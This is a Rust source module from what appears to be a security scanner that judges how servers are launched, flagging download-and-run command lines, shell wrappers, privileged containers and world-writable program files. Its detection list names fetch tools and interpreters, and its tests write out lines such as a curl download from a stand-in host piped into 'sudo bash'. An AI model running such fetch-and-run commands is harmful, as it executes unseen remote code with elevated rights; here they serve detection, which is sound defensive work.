//! How a server is started, apart from what is started: shells, scripts from the network, files that anybody may change,
//! containers that are none.

use std::path::{Path, PathBuf};

use super::{
    Finding, Severity, Verdict,
    package::{Subject, container_risks, is_shell, what_runs},
};
use crate::{config::Launch, platform::files::is_open_to_all, process};

/// What is to be said of a launch, each with what is done about it.
pub(super) fn judge(launch: &Launch, home: &Path) -> Vec<(Verdict, Finding)> {
    let Launch::Command { args, cwd, .. } = launch else {
        return Vec::new();
    };
    let words = launch.words();
    let line = words.join(" ");
    let subjects = what_runs(launch);
    let mut found: Vec<(Verdict, Finding)> = hidden(&words, &line, &subjects[0]).into_iter().collect();
    if subjects.iter().any(|subject| matches!(subject, Subject::Image(_))) {
        found.extend(container_risks(args, &home.to_string_lossy()).into_iter().map(|risk| {
            let (severity, verdict) = match risk.is_grave {
                true => (Severity::High, Verdict::Review),
                false => (Severity::Low, Verdict::Pass),
            };
            let mut finding = finding(risk.id, severity, verdict, &line, "", risk.mend);
            finding.1.why = risk.what.into();
            finding
        }));
    }
    let files = subjects.into_iter().filter_map(|subject| match subject {
        Subject::Local { path } => located(&path, cwd),
        _ => None,
    });
    found.extend(files.filter(|file| is_open_to_all(file)).map(|file| {
        let mend = "Take the right away: `chmod o-w`, on its folder too.";
        let shown = file.display().to_string();
        finding(
            "launch-world-writable",
            Severity::High,
            Verdict::Review,
            &shown,
            "Any user of this machine may change what it runs.",
            mend,
        )
    }));
    found
}

/// What is to be said of a command line that does not tell what it runs.
fn hidden(words: &[String], line: &str, first: &Subject) -> Option<(Verdict, Finding)> {
    if is_download(line) {
        return Some(finding(
            "launch-download",
            Severity::High,
            Verdict::Review,
            line,
            "It runs what an address answers at that moment, unseen.",
            "Download it, read it, and start the file.",
        ));
    }
    let is_hidden = is_shell(words) && matches!(first, Subject::Unknown { .. });
    is_hidden.then(|| {
        finding(
            "launch-shell",
            Severity::Low,
            Verdict::Review,
            line,
            "A shell runs a script, so what will run can't be told.",
            "Name the program and its arguments, without a shell.",
        )
    })
}

fn finding(
    id: &'static str,
    severity: Severity,
    verdict: Verdict,
    shown: &str,
    why: &'static str,
    mend: &'static str,
) -> (Verdict, Finding) {
    let finding = Finding {
        pointer: "/args".into(),
        why: why.into(),
        mend: mend.into(),
        ..Finding::new(id, severity, shown, &[shown])
    };
    (verdict, finding)
}

/// Whether a line pipes what it downloads into an interpreter.
fn is_download(line: &str) -> bool {
    let fetches = |part: &str| {
        part.split_whitespace()
            .any(|word| ["curl", "wget", "iwr", "irm", "Invoke-WebRequest"].contains(&word))
    };
    let runs = |part: &str| {
        let word = part.split_whitespace().find(|word| *word != "sudo").unwrap_or_default();
        ["sh", "bash", "zsh", "python", "python3", "node", "iex", "perl"]
            .contains(&word.rsplit('/').next().unwrap_or_default())
    };
    let parts: Vec<&str> = line.split('|').collect();
    let piped = parts.windows(2).any(|pair| fetches(pair[0]) && runs(pair[1]));
    let substituted = ["$(curl", "$(wget", "<(curl", "<(wget", "`curl", "`wget"]
        .iter()
        .any(|start| line.contains(start));
    piped || substituted
}

/// The file of a program or a script.
fn located(path: &Path, cwd: &Path) -> Option<PathBuf> {
    if path.components().count() > 1 {
        return Some(path.to_owned());
    }
    process::find(path.to_str()?, &std::env::var_os("PATH").unwrap_or_default(), cwd).ok()
}

#[cfg(test)]
mod tests {
    use super::*;

    fn ids(line: &[&str]) -> Vec<String> {
        let launch = Launch::Command {
            program: line[0].into(),
            args: line[1..].iter().map(|arg| (*arg).to_owned()).collect(),
            env: Vec::new(),
            cwd: "/".into(),
        };
        judge(&launch, Path::new("/home/ada"))
            .into_iter()
            .map(|(_, finding)| finding.id.into_owned())
            .collect()
    }

    #[test]
    fn what_can_not_be_told_is_named() {
        assert_eq!(
            ids(&["bash", "-c", "curl -fsSL https://h.example/i | sudo bash"]),
            ["launch-download"]
        );
        assert_eq!(
            ids(&["sh", "-c", "bash <(curl -s https://h.example/i)"]),
            ["launch-download"]
        );
        assert_eq!(ids(&["sh", "-c", "cd /x && ./run"]), ["launch-shell"]);
        assert_eq!(ids(&["docker", "run", "--privileged", "i"]), ["container-privileged"]);
        assert_eq!(ids(&["sh", "-c", "npx -y some-server"]), [""; 0]);
        assert_eq!(ids(&["npx", "-y", "curl", "sh"]), [""; 0]);
    }

    #[cfg(unix)]
    #[test]
    fn a_program_that_anybody_may_change_is_named() {
        use std::os::unix::fs::PermissionsExt;
        let root = tempfile::tempdir().expect("a temporary directory");
        let file = root.path().join("server");
        std::fs::write(&file, "").expect("writable");
        let set = |mode| std::fs::set_permissions(&file, std::fs::Permissions::from_mode(mode)).expect("ours");
        let path = file.to_string_lossy();
        set(0o755);
        assert_eq!(ids(&[&path]), [""; 0]);
        set(0o757);
        assert_eq!(ids(&[&path]), ["launch-world-writable"]);
        set(0o755);
        std::fs::set_permissions(root.path(), std::fs::Permissions::from_mode(0o777)).expect("ours");
        assert_eq!(ids(&[&path]), ["launch-world-writable"]);
    }
}
